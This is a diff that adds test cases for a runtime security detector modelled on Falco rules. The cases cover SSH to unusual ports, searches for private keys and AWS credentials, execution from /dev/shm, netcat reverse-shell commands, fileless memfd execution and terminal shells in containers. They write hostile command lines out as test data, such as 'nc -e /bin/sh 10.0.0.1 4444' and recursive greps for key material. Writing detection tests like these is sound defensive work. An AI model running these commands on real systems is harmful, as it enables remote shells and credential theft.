@@ -283,6 +283,113 @@ def main():
           "proc.pname": "systemd-makefs"},
          expect_not=[BULK])
 
+    # --- SSH connection to non-standard port (Falco: ssh_non_standard_ports) ---
+    SSHR = "SSH connection to non-standard port"
+    for port in [80, 8080, 88, 443, 8443, 53, 4444]:
+        case(f"ssh to port {port}",
+             {"evt.type": "connect", "evt.ret": -115, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh",
+              "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": port},
+             expect=[SSHR])
+    case("an executable ending in ssh (autossh) to port 443",
+         {"evt.type": "connect", "evt.ret": -115, "proc.name": "autossh", "proc.exe": "/usr/bin/autossh",
+          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 443},
+         expect=[SSHR])
+    case("a copy of ssh named x in /tmp (exe /tmp/myssh) to port 8443",
+         {"evt.type": "connect", "evt.ret": -115, "proc.name": "myssh", "proc.exe": "/tmp/myssh",
+          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 8443},
+         expect=[SSHR])
+    case("near miss: ssh to port 22",
+         {"evt.type": "connect", "evt.ret": -115, "proc.name": "ssh", "proc.exe": "/usr/bin/ssh",
+          "net.proto": "tcp", "net.family": "inet", "net.daddr": "93.184.216.34", "net.dport": 22},
+         expect_not=[SSHR])
+
+    # --- Search Private Keys or Passwords / Find AWS Credentials ----------------
+    KEYS = "Search for private keys or passwords"
+    for g in ["grep", "egrep", "fgrep"]:
+        for pat in ["BEGIN PRIVATE", "BEGIN OPENSSH PRIVATE", "BEGIN RSA PRIVATE",
+                    "BEGIN DSA PRIVATE", "BEGIN EC PRIVATE", "begin rsa private"]:
+            case(f"{g} for '{pat}'",
+                 {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -rl '{pat}' /home"},
+                 expect=[KEYS])
+        case(f"near miss: {g} for a certificate",
+             {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -rl 'BEGIN CERTIFICATE' /etc/ssl"},
+             expect_not=[KEYS])
+    for key in ["id_rsa", "id_dsa", "id_ed25519", "id_ecdsa"]:
+        case(f"find -name {key}",
+             {"evt.type": "exec", "proc.name": "find", "proc.cmdline": f"find / -name {key}"},
+             expect=[KEYS])
+    case("near miss: find -name '*.txt'",
+         {"evt.type": "exec", "proc.name": "find", "proc.cmdline": "find / -name *.txt"},
+         expect_not=[KEYS])
+    AWS = "Search for cloud credentials"
+    for g in ["grep", "egrep", "fgrep"]:
+        for pat in ["aws_access_key_id", "aws_secret_access_key", "aws_session_token",
+                    "AccessKeyId", "SecretAccessKey"]:
+            case(f"{g} for {pat}",
+                 {"evt.type": "exec", "proc.name": g, "proc.cmdline": f"{g} -ri {pat} /"},
+                 expect=[AWS])
+    case("find ... .aws/credentials",
+         {"evt.type": "exec", "proc.name": "find", "proc.cmdline": "find / -path *.aws/credentials"},
+         expect=[AWS])
+    case("near miss: grep aws_region",
+         {"evt.type": "exec", "proc.name": "grep", "proc.cmdline": "grep -r aws_region ."},
+         expect_not=[AWS])
+
+    # --- Execution from /dev/shm (every shape of Falco's condition) ----------------
+    SHM = "Execution from /dev/shm"
+    for label, ev in [
+            ("exe below /dev/shm", {"proc.name": "x", "proc.exe": "/dev/shm/x", "proc.cmdline": "x"}),
+            ("./x with cwd /dev/shm/d", {"proc.name": "x", "proc.exe": "./x", "proc.cwd": "/dev/shm/d", "proc.cmdline": "./x"}),
+            ("sh -c /dev/shm/x", {"proc.name": "sh", "proc.exe": "/bin/sh", "proc.cmdline": "sh -c /dev/shm/x"}),
+            ("bash -i /dev/shm/x", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cmdline": "bash -i /dev/shm/x"}),
+            ("dash /dev/shm/x.sh", {"proc.name": "dash", "proc.exe": "/bin/dash", "proc.cmdline": "dash /dev/shm/x.sh"}),
+            ("bash ./x.sh with cwd /dev/shm/d", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cwd": "/dev/shm/d", "proc.cmdline": "bash ./x.sh"}),
+            ("python3 ./x.py with cwd /dev/shm", {"proc.name": "python3", "proc.exe": "/usr/bin/python3", "proc.cwd": "/dev/shm", "proc.cmdline": "python3 ./x.py"})]:
+        case(f"/dev/shm: {label}", dict({"evt.type": "exec"}, **ev), expect=[SHM])
+    for label, ev in [
+            ("ls /dev/shm", {"proc.name": "ls", "proc.exe": "/usr/bin/ls", "proc.cmdline": "ls /dev/shm"}),
+            ("bash ./x.sh with cwd /dev/shmx", {"proc.name": "bash", "proc.exe": "/bin/bash", "proc.cwd": "/dev/shmx", "proc.cmdline": "bash ./x.sh"})]:
+        case(f"/dev/shm near miss: {label}", dict({"evt.type": "exec"}, **ev), expect_not=[SHM])
+
+    # --- Netcat Remote Code Execution (Falco: in containers; vigil: anywhere) ---
+    NC = "Netcat started with command execution"
+    for cmd in ["nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444 -c sh", "ncat --sh-exec sh 10.0.0.1 4444",
+                "ncat --exec /bin/sh 10.0.0.1 4444", "ncat -e /bin/bash 10.0.0.1 4444",
+                "ncat -c sh 10.0.0.1 4444", "ncat --lua-exec x.lua 10.0.0.1 4444"]:
+        name = cmd.split()[0]
+        case(f"netcat: {cmd}",
+             {"evt.type": "exec", "proc.name": name, "proc.cmdline": cmd, "container.id": "abc123"},
+             expect=[NC])
+    case("netcat near miss: nc -z port scan",
+         {"evt.type": "exec", "proc.name": "nc", "proc.cmdline": "nc -z 10.0.0.1 22"},
+         expect_not=[NC])
+
+    # --- Fileless execution via memfd_create -------------------------------------
+    FL = "Fileless or deleted binary execution"
+    for exe in ["memfd:payload", "/memfd:payload (deleted)", "/proc/self/fd/3", "/dev/fd/4"]:
+        case(f"fileless: exe {exe}", {"evt.type": "exec", "proc.name": "x", "proc.exe": exe}, expect=[FL])
+    case("fileless near miss: runc re-exec from memfd",
+         {"evt.type": "exec", "proc.name": "runc", "proc.exe": "memfd:runc_cloned:/proc/self/exe"},
+         expect_not=[FL])
+
+    # --- Terminal shell in container (Falco: container_entrypoint) ----------------
+    TERM = "Terminal shell in container"
+    for parent in L["container_entrypoint_parents"] + [""]:
+        case(f"terminal shell in container, parent '{parent}'",
+             {"evt.type": "exec", "proc.name": "bash", "proc.tty": True, "container.id": "abc123",
+              "proc.pname": parent},
+             expect=[TERM])
+    case("terminal shell near miss: on the host",
+         {"evt.type": "exec", "proc.name": "bash", "proc.tty": True, "proc.pname": "runc"},
+         expect_not=[TERM])
+    case("terminal shell near miss: no terminal",
+         {"evt.type": "exec", "proc.name": "sh", "container.id": "abc123", "proc.pname": "runc"},
+         expect_not=[TERM])
+    case("terminal shell near miss: shell below the app's shell",
+         {"evt.type": "exec", "proc.name": "sh", "proc.tty": True, "container.id": "abc123",
+          "proc.pname": "bash"},
+         expect_not=[TERM])
+
     # unique names
     seen = set()
     for c in cases:
